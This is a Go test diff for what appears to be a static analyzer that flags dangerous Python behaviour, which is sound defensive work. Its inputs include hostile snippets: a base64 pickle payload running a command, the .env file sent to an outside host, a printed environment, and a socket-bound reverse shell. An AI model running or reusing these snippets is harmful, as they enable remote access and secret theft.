@@ -535,3 +535,50 @@ func TestDataFlowAcrossStatements(t *testing.T) {
 		})
 	}
 }
+
+func TestMoreExecutionPaths(t *testing.T) {
+	t.Run("timeit runs code", func(t *testing.T) {
+		f, fb := analyzeSrc("import timeit\ntimeit.timeit(\"os.system('id')\", setup='import os', number=1)")
+		wantDyn(t, f, "py_exec", true)
+		wantBash(t, fb, "id", "timeit.timeit>os.system", false)
+	})
+	t.Run("pickle payload", func(t *testing.T) {
+		f, _ := analyzeSrc("import pickle, base64\npickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydpZCcKdFIu'))")
+		d := wantDyn(t, f, "py_exec", false)
+		if !d.Encoded || strings.Join(d.Decoders, ",") != "base64,pickle" {
+			t.Errorf("pickle: %+v", d)
+		}
+	})
+	t.Run("pip main", func(t *testing.T) {
+		_, fb := analyzeSrc("from pip._internal.cli.main import main\nmain(['install', 'requests'])")
+		wantBash(t, fb, "pip install requests", "pip._internal.cli.main.main", false)
+	})
+	t.Run("infinite waits", func(t *testing.T) {
+		f, _ := analyzeSrc("import time, threading\ntime.sleep(float('inf'))\nthreading.Event().wait()")
+		if len(f.Sleeps) != 2 || f.Sleeps[0].Seconds != -1 || f.Sleeps[1].Seconds != -1 {
+			t.Errorf("sleeps: %+v", f.Sleeps)
+		}
+	})
+	t.Run("whole environment printed", func(t *testing.T) {
+		f, _ := analyzeSrc("import os\nprint(dict(os.environ))")
+		if len(f.Outputs) != 1 || f.Outputs[0].Vars[0] != "*" {
+			t.Errorf("outputs: %+v", f.Outputs)
+		}
+	})
+	t.Run("file sent in query parameters", func(t *testing.T) {
+		f, _ := analyzeSrc("import requests\nrequests.get('https://x.io', params={'d': open('.env').read()})")
+		if n := wantNet(t, f, "x.io", 443, "requests.get"); !n.Upload || n.UploadFrom != ".env" {
+			t.Errorf("network: %+v", n)
+		}
+	})
+	t.Run("socket as child stdio", func(t *testing.T) {
+		f, _ := analyzeSrc("import socket, subprocess\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())")
+		if n := wantNet(t, f, "1.2.3.4", 9, "socket.socket.connect"); !n.ExecShell {
+			t.Errorf("network: %+v", n)
+		}
+	})
+	t.Run("starred non-constant tuple keeps known words", func(t *testing.T) {
+		_, fb := analyzeSrc("import subprocess, sys\ndef git(*args):\n    subprocess.run(['git', *args])\ngit('log', sys.argv[1])")
+		wantBash(t, fb, `git log "$sys"`, "subprocess.run", false)
+	})
+}
